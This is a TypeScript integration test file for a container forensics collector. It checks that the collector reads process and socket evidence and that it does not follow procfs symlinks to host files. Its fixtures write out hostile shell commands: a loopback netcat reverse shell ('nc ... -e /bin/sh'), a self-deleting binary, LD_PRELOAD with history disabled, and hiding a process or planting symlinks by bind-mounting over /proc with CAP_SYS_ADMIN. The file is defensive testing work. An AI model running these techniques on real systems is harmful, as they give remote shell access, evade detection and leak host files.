import { rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ContainerEvidenceSchema, type ContainerEvidence } from '@shared/domain/evidence-set.js';
import { LIMITS } from '@shared/domain/bounds.js';
import { BUSY_CPU_PERCENT, collectContainerEvidence } from '../../../electron/engine/collect/container-evidence.js';
import { docker, removeSuite, runContainer } from '../../helpers/docker.js';
import { waitForFile } from './wait.js';

const SUITE = 'collect-procs';
const SECRET_PATH = path.join(os.tmpdir(), `stowaway-host-secret-${process.pid}`);
const SECRET = `host-only-secret-${process.pid}-${Date.now()}`;

/**
 * A loopback-only reverse shell inside the container's own network namespace (--network none), a binary
 * that deleted itself from /tmp, and a process started with LD_PRELOAD and history switched off.
 */
const SHELL = [
  // Listeners read a fifo nobody writes, so they neither get EOF nor send anything.
  'mkfifo /tmp/f; sleep 3600 > /tmp/f &',
  'nc -l -p 4444 < /tmp/f > /dev/null &',
  'nc -l -p 4445 < /tmp/f > /dev/null &',
  // Retry until the listener is up, however slow the machine is.
  '(until nc 127.0.0.1 4444 -e /bin/sh; do sleep 0.1; done) &',
  'cp /bin/busybox /tmp/sleep && /tmp/sleep 3600 & p=$!;',
  'while [ "$(readlink /proc/$p/exe)" != /tmp/sleep ]; do sleep 0.05; done; rm -f /tmp/sleep;',
  'while ! grep -q " 01 " /proc/net/tcp; do sleep 0.1; done;',
  'LD_PRELOAD=/tmp/evil.so HISTFILE=/dev/null sleep 3601 &',
  'touch /tmp/ready; wait',
].join(' ');

const proc = (ev: ContainerEvidence, pred: (p: { comm: string; cmdline: string; exe?: string }) => boolean) =>
  ev.processes.host?.processes.find(pred);

describe('process and socket collectors', () => {
  let shell = '';
  let hider = '';
  let planter = '';
  beforeAll(async () => {
    await removeSuite(SUITE);
    shell = (await runContainer({ suite: SUITE, name: `sw-col-shell-${process.pid}`, cmd: ['sh', '-c', SHELL] })).id;
    // With CAP_SYS_ADMIN a process can cover /proc/PID of another with an empty directory: ps inside no longer lists it.
    hider = (
      await runContainer({
        suite: SUITE,
        name: `sw-col-hider-${process.pid}`,
        hostConfig: { CapAdd: ['SYS_ADMIN'] },
        cmd: [
          'sh',
          '-c',
          'sleep 3602 & p=$!; mkdir -p /tmp/empty; mount --bind /tmp/empty /proc/$p && touch /tmp/ready; sleep 3600',
        ],
      })
    ).id;
    await writeFile(SECRET_PATH, SECRET);
    // Worse: cover a PID with a directory of symlinks to absolute paths. Read from the host through
    // /proc/PID/root, an absolute link resolves against the host's root and would leak a host file.
    planter = (
      await runContainer({
        suite: SUITE,
        name: `sw-col-planter-${process.pid}`,
        hostConfig: { CapAdd: ['SYS_ADMIN'] },
        cmd: [
          'sh',
          '-c',
          `sleep 3603 & p=$!; mkdir -p /tmp/fake; for f in status cmdline stat; do ln -s ${SECRET_PATH} /tmp/fake/$f; done; mount --bind /tmp/fake /proc/$p && touch /tmp/ready; sleep 3600`,
        ],
      })
    ).id;
    await Promise.all([
      waitForFile(shell, '/tmp/ready'),
      waitForFile(hider, '/tmp/ready'),
      waitForFile(planter, '/tmp/ready'),
    ]);
  }, 60_000);
  afterAll(async () => {
    await removeSuite(SUITE);
    await rm(SECRET_PATH, { force: true });
  });

  it('reads the host-side view: exe, deleted binaries, stdio sockets, watched env, namespace pids', async () => {
    const ev = ContainerEvidenceSchema.parse(
      await collectContainerEvidence(docker, shell, { engineId: 'local', local: true }),
    );
    expect(ev.access).toBe('host');
    expect(ev.processes.host?.view).toBe('host');
    const deleted = proc(ev, (p) => (p.exe ?? '').startsWith('/tmp/sleep'))!;
    expect(deleted.exe).toBe('/tmp/sleep (deleted)');
    expect(deleted.flags).toEqual(expect.arrayContaining(['deleted-exe', 'tmp-exe']));
    const sh = ev.processes.host!.processes.find((p) => p.comm === 'sh' && p.flags.includes('socket-stdio'));
    expect(sh, JSON.stringify(ev.processes.host!.processes.map((p) => [p.comm, p.stdio]))).toBeDefined();
    const preload = proc(ev, (p) => p.cmdline === 'sleep 3601')!;
    expect(preload.env).toEqual({ LD_PRELOAD: '/tmp/evil.so', HISTFILE: '/dev/null' });
    expect(preload.user).toBe('root');
    expect(ev.processes.host!.processes.every((p) => p.nsPid !== undefined && p.nsPid < p.pid)).toBe(true);
    expect(ev.mountPoints).toEqual(expect.arrayContaining(['/', '/proc']));
  });

  it('lists sockets of the container network namespace and attributes them to processes', async () => {
    const ev = await collectContainerEvidence(docker, shell, { engineId: 'local', local: true });
    const sockets = ev.sockets[0]!.sockets;
    const listener = sockets.find((s) => s.localPort === 4445 && s.state === 'LISTEN')!;
    expect(listener.process).toBe('nc');
    expect(ev.processes.host!.processes.find((p) => p.pid === listener.pid)?.comm).toBe('nc');
    const outbound = sockets.find((s) => s.remotePort === 4444 && s.state === 'ESTABLISHED')!;
    expect(outbound.remoteAddress).toMatch(/127\.0\.0\.1$/);
    // The reverse shell holds the connected socket on its stdio.
    const holder = ev.processes.host!.processes.find((p) => p.pid === outbound.pid)!;
    expect(holder.socketInodes).toContain(outbound.inode);
    expect(ev.artifacts.some((a) => a.kind === 'sockets')).toBe(true);
  });

  it('compares with the container own view read through its mount namespace', async () => {
    const ev = await collectContainerEvidence(docker, shell, { engineId: 'local', local: true });
    expect(ev.processes.container?.source).toMatch(/\/root\/proc$/);
    const inside = new Set(ev.processes.container!.processes.map((p) => p.pid));
    for (const p of ev.processes.host!.processes) expect(inside.has(p.nsPid!), `${p.comm} ${p.nsPid}`).toBe(true);
    expect(ev.processes.host!.processes.some((p) => p.flags.includes('hidden'))).toBe(false);
  });

  it('flags a process that the container procfs no longer shows', async () => {
    const ev = await collectContainerEvidence(docker, hider, { engineId: 'local', local: true });
    const hidden = ev.processes.host!.processes.filter((p) => p.flags.includes('hidden'));
    expect(hidden.map((p) => p.cmdline)).toEqual(['sleep 3602']);
    expect(ev.processes.container!.processes.some((p) => p.pid === hidden[0]!.nsPid)).toBe(false);
  });

  it('never follows symlinks planted in the container procfs to host files', async () => {
    const ev = await collectContainerEvidence(docker, planter, { engineId: 'local', local: true });
    expect(JSON.stringify(ev)).not.toContain(SECRET);
    const hidden = ev.processes.host!.processes.filter((p) => p.flags.includes('hidden'));
    expect(hidden.map((p) => p.cmdline)).toEqual(['sleep 3603']);
  });

  it('falls back to top, and to exec only when asked, for engines whose /proc is not readable here', async () => {
    const plain = await collectContainerEvidence(docker, shell, { engineId: 'local', local: false });
    expect(plain.access).toBe('api');
    expect(plain.processes.host?.source).toBe('GET /containers/{id}/top');
    expect(plain.processes.host!.processes.map((p) => p.cmdline)).toContain('sleep 3601');
    expect(plain.processes.container).toBeUndefined();
    expect(plain.sockets).toEqual([]);
    const withExec = await collectContainerEvidence(docker, shell, { engineId: 'local', local: false, exec: true });
    expect(withExec.processes.container?.source).toBe('exec');
    expect(withExec.processes.container!.processes.some((p) => p.comm === 'nc')).toBe(true);
    expect(withExec.sockets[0]!.sockets.some((s) => s.localPort === 4445 && s.state === 'LISTEN')).toBe(true);
  });

  it('samples stats on its own only for containers whose processes look busy', async () => {
    // Spinning shells. Their CPU share depends on whatever else loads this two-core machine, so the
    // threshold is set from what they got, and the idle container must stay below the same threshold.
    const busy = (
      await runContainer({
        suite: SUITE,
        name: `sw-col-busy-${process.pid}`,
        cmd: ['sh', '-c', 'for i in 1 2 3 4 5 6; do (while :; do :; done) & done; wait'],
      })
    ).id;
    const cpu = (ev: ContainerEvidence) =>
      ev.processes.host!.processes.reduce((sum, p) => sum + (p.cpuPercent ?? 0), 0);
    try {
      await new Promise((r) => setTimeout(r, 1500));
      const probe = await collectContainerEvidence(docker, busy, { engineId: 'local', local: true, stats: false });
      expect(probe.stats).toEqual([]);
      const threshold = Math.min(BUSY_CPU_PERCENT, cpu(probe) / 2);
      expect(threshold).toBeGreaterThan(1);
      const hot = await collectContainerEvidence(docker, busy, {
        engineId: 'local',
        local: true,
        busyCpuPercent: threshold,
      });
      expect(hot.stats).toHaveLength(1);
      expect(hot.stats[0]!.cpuPercent).toBeGreaterThan(1);
      const viaTop = await collectContainerEvidence(docker, busy, {
        engineId: 'local',
        local: false,
        busyCpuPercent: threshold,
      });
      expect(cpu(viaTop)).toBeGreaterThan(0);
      expect(viaTop.stats).toHaveLength(1);
      const idle = await collectContainerEvidence(docker, shell, {
        engineId: 'local',
        local: true,
        busyCpuPercent: threshold,
      });
      expect(cpu(idle)).toBeLessThan(threshold);
      expect(idle.stats).toEqual([]);
    } finally {
      await docker.getContainer(busy).remove({ force: true });
    }
  });

  it('bounds hostile strings: a 100 KB argv with terminal escapes is clipped, not dropped', async () => {
    const huge = `\u001b]0;pwned\u0007${'A'.repeat(100_000)}`;
    const loud = (
      await runContainer({
        suite: SUITE,
        name: `sw-col-loud-${process.pid}`,
        cmd: ['sh', '-c', 'sleep 3600 & wait', huge],
      })
    ).id;
    try {
      // The shell may not have forked its sleep yet on a busy machine: read again until it has.
      const read = () => collectContainerEvidence(docker, loud, { engineId: 'local', local: true });
      const shellOf = (e: Awaited<ReturnType<typeof read>>) =>
        e.processes.host?.processes.find((p) => p.cmdline.startsWith('sh -c sleep 3600 & wait'));
      let ev = await read();
      for (let i = 0; i < 20 && !shellOf(ev); i++) {
        await new Promise((r) => setTimeout(r, 250));
        ev = await read();
      }
      const sh = shellOf(ev)!;
      expect(sh.cmdline.length).toBe(LIMITS.command);
      expect(sh.cmdline.endsWith('…')).toBe(true);
      expect(ev.container.command.length).toBe(LIMITS.command);
    } finally {
      await docker.getContainer(loud).remove({ force: true });
    }
  });

  it('keeps a call that times out as an error and the rest of the evidence', async () => {
    // Two stats readings half a second apart cannot finish within 450 ms; inspect and host reads can.
    const ev = await collectContainerEvidence(docker, shell, {
      engineId: 'local',
      local: true,
      stats: true,
      callTimeoutMs: 450,
    });
    expect(ev.errors).toContainEqual(
      expect.objectContaining({ call: 'stats', code: 'ENGINE_TIMEOUT', containerId: ev.container.id }),
    );
    expect(ev.stats).toEqual([]);
    expect(ev.processes.host!.processes.length).toBeGreaterThan(5);
    const sampled = await collectContainerEvidence(docker, shell, { engineId: 'local', local: true, stats: true });
    expect(sampled.stats[0]!.pids).toBeGreaterThan(5);
    expect(sampled.stats[0]!.memoryBytes).toBeGreaterThan(0);
  });
});
